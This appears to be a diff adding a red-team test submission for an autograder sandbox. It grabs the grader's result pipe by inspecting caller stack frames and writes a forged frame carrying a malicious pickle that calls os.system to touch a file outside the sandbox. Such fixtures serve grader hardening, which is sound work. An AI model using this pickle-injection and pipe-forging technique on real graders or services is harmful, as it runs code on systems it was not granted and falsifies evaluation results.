@@ -1,0 +1,42 @@
+# {"attack": "Sends a pickle that would run something in the grader.", "breach": "forge"}
+
+import os
+import sys
+
+
+def result_pipe():
+    """The descriptor on which the process reports: a local variable of a caller, or the one that is a pipe."""
+    frame = sys._getframe()
+    while frame:
+        for name in ("result_fd", "result"):
+            if type(frame.f_locals.get(name)) is int:
+                return frame.f_locals[name]
+        frame = frame.f_back
+    return 3
+
+
+PIPE = result_pipe()
+
+
+def say(message):
+    from autograder.wire import encode_frame
+
+    data = encode_frame(message, 8 * 2**20)
+    while data:
+        data = data[os.write(PIPE, data) :]
+
+
+def double(x):
+    data = (
+        b"TG01"
+        + (60).to_bytes(4, "little")
+        + bytes(4)
+        + b"cos\nsystem\n(S'touch %s/pickled'\ntR." % TARGETS["outside"].encode()
+        + bytes(60)
+    )
+    try:
+        while data:
+            data = data[os.write(PIPE, data) :]
+    except OSError:
+        pass
+    return x
